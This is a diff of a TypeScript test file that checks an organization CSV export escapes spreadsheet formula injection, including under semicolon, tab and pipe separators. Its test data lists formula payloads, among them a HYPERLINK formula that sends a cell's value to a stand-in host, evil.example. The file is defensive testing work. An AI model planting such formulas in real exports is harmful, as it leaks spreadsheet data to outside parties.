@@ -7,8 +7,15 @@ import { loadedPortions } from '../../src/organizations/exporting/portions.ts';
 import { sampleOrganizations } from '../tenant/sampleData.ts';
 import { foreignNames, hostileNames } from '../tenant/sampleText.ts';
 
-/** In several portions, the last of which is not full. */
-const samples: readonly Organization[] = sampleOrganizations(250).map((organization) => ({ ...organization }));
+/** In several portions, the last of which is not full. What stands for no logo is a null at times. */
+const samples: readonly Organization[] = [
+  ...sampleOrganizations(249).map((organization) => ({ ...organization })),
+  {
+    id: 'org_1',
+    name: 'acme',
+    branding: { logo_url: null, colors: { primary: '#0059d6', page_background: '#ffffff' } },
+  },
+];
 
 /** Names that break a line, a quote or an encoding, or are written in more than one direction. */
 const names = [
@@ -27,21 +34,34 @@ const names = [
   '\u0000\u001f',
 ];
 
-/** What a spreadsheet would run, in a line of its own or not. */
+/** What a spreadsheet would run. */
 const formulas = [
   '=1+1',
   '+1',
   '-1',
   '@SUM(A1)',
-  '\t=1',
-  '\r=1',
+  '\t1',
+  '\r1',
   '＝1',
   '＋1',
   '－1',
   '＠1',
   '=HYPERLINK("https://evil.example?x="&A1,"Click")',
-  '=1\n=2',
   '=',
+];
+
+/** What it would run when something else than a comma is between its cells, and what it is made. */
+const hiddenFormulas: readonly (readonly [text: string, escaped: string])[] = [
+  ['Acme;=HYPERLINK("https://evil.example")', 'Acme;\'=HYPERLINK("https://evil.example")'],
+  ['Acme;"=1+1;', 'Acme;"\'=1+1;'],
+  ['Acme\t+1', "Acme\t'+1"],
+  ['Acme|-1|@SUM(A1)', "Acme|'-1|'@SUM(A1)"],
+  ['Acme;＝1;＋1;－1;＠1', "Acme;'＝1;'＋1;'－1;'＠1"],
+  ['Acme\n=1+1;', "Acme\n'=1+1;"],
+  ['Acme\r\n=1+1;', "Acme\r\n'=1+1;"],
+  ['=1\n=2', "'=1\n'=2"],
+  ['\t=1', "'\t'=1"],
+  ['a-b; c=d | e@f', 'a-b; c=d | e@f'],
 ];
 
 async function textOf(format: ExportFormat, organizations: readonly Organization[]): Promise<string> {
@@ -120,6 +140,24 @@ describe('Exporting as CSV', () => {
       rows.slice(0, formulas.length).map(([, , displayName]) => displayName),
       formulas.map((formula) => `'${formula}`),
     );
+  });
+
+  it('writes nothing that a spreadsheet with another separator would run', async () => {
+    const texts = hiddenFormulas.map(([text]) => text);
+    const [, ...rows] = await cellsOf([...named(texts), { id: 'org_1', metadata: { key: 'Acme;=1' } }]);
+    const metadata = rows.pop()?.at(-1);
+    assert.deepEqual(
+      rows.map(([, , displayName]) => displayName),
+      hiddenFormulas.map(([, escaped]) => escaped),
+    );
+    assert.equal(metadata, `{"key":"Acme;'=1"}`);
+    const text = await textOf('csv', named([...texts, ...formulas]));
+    for (const separator of [';', '\t', '|']) {
+      const cells = parse(text, { delimiter: separator, relax_quotes: true, relax_column_count: true }).flat();
+      for (const cell of cells) {
+        assert.doesNotMatch(cell, /^"*[=+\-@＝＋－＠]/);
+      }
+    }
   });
 
   it('separates and quotes as RFC 4180 has it', async () => {
